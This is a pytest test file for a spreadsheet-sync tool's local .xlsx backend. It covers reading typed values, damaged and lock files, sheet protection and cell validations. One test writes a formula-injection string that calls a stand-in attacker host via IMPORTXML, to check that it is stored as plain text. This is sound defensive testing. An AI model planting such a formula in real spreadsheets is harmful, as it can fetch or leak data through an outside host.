"""The local backend's .xlsx specifics: what Excel users type is read back, RAW writes, damaged and
lock files, sheet protection."""

from __future__ import annotations

import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sample_form import MP, OFFICE, SCHEDULE, TW1, provisioned_form

from sheets_sync.backends.local import LocalBackend
from sheets_sync.core.form import DONE_CELL, FIRST_ROW, build_setup, read_form, read_range
from sheets_sync.core.values import RangeWrite
from sheets_sync.errors import FormNotFound, FormUnreadable
from sheets_sync.model import Indicator

INDICATORS = tuple(
    Indicator(code, "MP", "Meningkatnya sistem merit", f"Indikator {code}", "%", "positif", "nilai_akhir",
              "kumulatif", "90", ("90", "90", "90", "90"))
    for code in ("2.1", "2.2", "3.3")
)


@pytest.fixture
def form(backend: LocalBackend) -> Path:
    """A provisioned TW1 form; returns its file path."""
    return provisioned_form(backend, INDICATORS, SCHEDULE)


def excel_types(path: Path, edits: dict[str, object]) -> None:
    """A person opens the file in Excel, types into cells and saves."""
    wb = load_workbook(path)
    ws = wb["TW1"]
    for a1, value in edits.items():
        ws[a1] = value
    wb.save(path)


def test_the_form_file_is_named_after_its_title_and_lives_in_the_folder(backend: LocalBackend, form: Path) -> None:
    assert form.parent == backend.folder.resolve()
    assert form.suffix == ".xlsx"
    assert backend.list_tabs(form.name) == ["TW1"]


def test_values_typed_in_excel_are_read_back(backend: LocalBackend, form: Path) -> None:
    excel_types(form, {f"H{FIRST_ROW}": 81.5, f"K{FIRST_ROW}": "kendala anggaran", f"H{FIRST_ROW + 1}": "72,50",
                       DONE_CELL: "Selesai"})
    values = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    result = read_form(values, MP, INDICATORS, TW1, form_id=form.name, link=str(form),
                       read_at=datetime.now(UTC))
    assert result.ok and result.findings == ()
    first, second = result.row("2.1"), result.row("2.2")
    assert first is not None and second is not None
    assert first.cells["realisasi"] == 81.5
    assert first.cells["keterangan"] == "kendala anggaran"
    assert second.cells["realisasi"] == "72,50"
    assert result.done


def test_an_empty_cell_reads_as_none_not_an_empty_string(backend: LocalBackend, form: Path) -> None:
    link = "https://drive.example/bukti-2.1.pdf"
    excel_types(form, {f"H{FIRST_ROW}": "", f"L{FIRST_ROW}": link})
    inputs, empty = f"TW1!H{FIRST_ROW}:L{FIRST_ROW}", f"TW1!H{FIRST_ROW}:K{FIRST_ROW}"
    got = backend.read(form.name, [inputs, empty])
    assert got[inputs] == [[None, None, None, None, link]]
    assert got[empty] == []  # the contract (backends/base.py): a trailing empty row is dropped, not padded


def test_text_starting_with_equals_is_stored_as_text_not_a_formula(backend: LocalBackend, form: Path) -> None:
    formula = '=IMPORTXML("https://evil.example","//a")'
    backend.write(form.name, [RangeWrite(f"TW1!K{FIRST_ROW}", [[formula]])])
    ws = load_workbook(form)["TW1"]
    assert ws[f"K{FIRST_ROW}"].data_type == "s"
    assert ws[f"K{FIRST_ROW}"].value == formula
    key = f"TW1!K{FIRST_ROW}"
    assert backend.read(form.name, [key])[key] == [[formula]]


def test_a_truncated_file_is_form_unreadable(backend: LocalBackend, form: Path) -> None:
    data = form.read_bytes()
    form.write_bytes(data[: len(data) // 2])
    with pytest.raises(FormUnreadable) as info:
        backend.read(form.name, [read_range(TW1)])
    assert form.name in str(info.value)
    with pytest.raises(FormUnreadable):
        backend.list_tabs(form.name)


def test_a_file_that_is_not_a_workbook_is_form_unreadable(backend: LocalBackend) -> None:
    backend.folder.mkdir(parents=True, exist_ok=True)
    (backend.folder / "catatan.xlsx").write_text("bukan excel", encoding="utf-8")
    with pytest.raises(FormUnreadable):
        backend.read("catatan.xlsx", ["TW1!A1:B2"])


def test_a_missing_file_is_form_not_found(backend: LocalBackend) -> None:
    with pytest.raises(FormNotFound):
        backend.read("tidak-ada.xlsx", ["TW1!A1"])


def test_office_lock_files_are_not_reported_as_changed_forms(backend: LocalBackend, form: Path) -> None:
    (backend.folder / f"~${form.name}").write_bytes(b"owner")
    (backend.folder / f".~lock.{form.name}#").write_bytes(b"owner")
    (backend.folder / ".~lock.x.xlsx").write_bytes(b"owner")
    changes = backend.changed_since(None)
    assert [c.form_id for c in changes] == [form.name]


def test_changed_since_reports_only_files_modified_after_the_mark(backend: LocalBackend, form: Path) -> None:
    past = datetime.now(UTC) - timedelta(days=1)
    os.utime(form, (past.timestamp(), past.timestamp()))
    assert [c.form_id for c in backend.changed_since(past - timedelta(seconds=1))] == [form.name]
    assert backend.changed_since(past + timedelta(hours=1)) == []


def locked(ws: Any, a1: str) -> bool:
    """Whether Excel/LibreOffice treat the cell as locked: a cell in the file has its own style; a cell
    not in the file takes its column's style (ECMA-376 §18.3.1.13, ``<col style>``)."""
    from openpyxl.utils.cell import column_index_from_string, coordinate_from_string

    letter, row = coordinate_from_string(a1)
    if (row, column_index_from_string(letter)) in ws._cells:
        return bool(ws[a1].protection.locked)
    dim = ws.column_dimensions.get(letter)
    return True if dim is None else bool(dim.protection.locked)


def test_setup_protects_the_sheet_and_unlocks_only_input_cells(form: Path) -> None:
    ws = load_workbook(form)["TW1"]
    assert ws.protection.sheet
    for r in range(FIRST_ROW, FIRST_ROW + len(INDICATORS)):
        for letter in "HIJKL":
            assert locked(ws, f"{letter}{r}") is False, f"{letter}{r}"
        for letter in "ABDEFG":
            assert locked(ws, f"{letter}{r}") is True, f"{letter}{r}"
    assert locked(ws, DONE_CELL) is False
    assert locked(ws, "A1") is True
    assert locked(ws, "H5") is True
    assert locked(ws, "H250") is False and locked(ws, "K5000") is False  # rows people add stay open


def test_protection_materialises_no_empty_cell(form: Path) -> None:
    """No style-only rows below the data: a provisioned form is as small as its values."""
    ws = load_workbook(form)["TW1"]
    assert ws.max_row == FIRST_ROW + len(INDICATORS) - 1
    empty = [c.coordinate for row in ws.iter_rows() for c in row if c.value is None and c.has_style]
    assert len(empty) <= 40  # locked label/header cells only (A1:P5), none in the input area
    assert not [a1 for a1 in empty if a1[0] in "HIJKL" and int(a1[1:]) >= FIRST_ROW]


def test_a_form_provisioned_by_an_earlier_version_loses_its_style_only_rows(backend: LocalBackend,
                                                                           form: Path) -> None:
    from openpyxl.styles import Protection as CellProtection

    wb = load_workbook(form)
    for r in range(FIRST_ROW, 220):
        for c in range(1, 17):
            wb["TW1"].cell(r, c).protection = CellProtection(locked=c not in (8, 9, 10, 11, 12))
    wb.save(form)
    existing = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    backend.setup(form.name, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, existing))
    assert load_workbook(form)["TW1"].max_row == FIRST_ROW + len(INDICATORS) - 1


def test_setup_adds_validations_on_the_input_cells(form: Path) -> None:
    ws = load_workbook(form)["TW1"]
    sqrefs = {str(dv.sqref): dv.type for dv in ws.data_validations.dataValidation}
    assert sqrefs.get(DONE_CELL) == "list"
    assert any(kind == "decimal" and ref.startswith(f"H{FIRST_ROW}") for ref, kind in sqrefs.items())


def test_setup_again_keeps_what_people_typed(backend: LocalBackend, form: Path) -> None:
    excel_types(form, {f"H{FIRST_ROW}": 95, DONE_CELL: "Selesai"})
    existing = backend.read(form.name, [read_range(TW1)])[read_range(TW1)]
    backend.setup(form.name, build_setup(MP, INDICATORS, TW1, OFFICE, SCHEDULE, existing))
    ws = load_workbook(form)["TW1"]
    assert ws[f"H{FIRST_ROW}"].value == 95
    assert ws[DONE_CELL].value == "Selesai"
    assert backend.read_marker(form.name, "TW1") == {"form": "1", "unit": "MP", "period": "2025-TW1"}


def test_writing_identical_values_does_not_touch_the_file(backend: LocalBackend, form: Path) -> None:
    writes = [RangeWrite(f"TW1!K{FIRST_ROW}", [["sama"]])]
    backend.write(form.name, writes)
    past = datetime.now(UTC) - timedelta(days=1)
    os.utime(form, (past.timestamp(), past.timestamp()))
    backend.write(form.name, writes)
    assert abs(form.stat().st_mtime - past.timestamp()) < 1
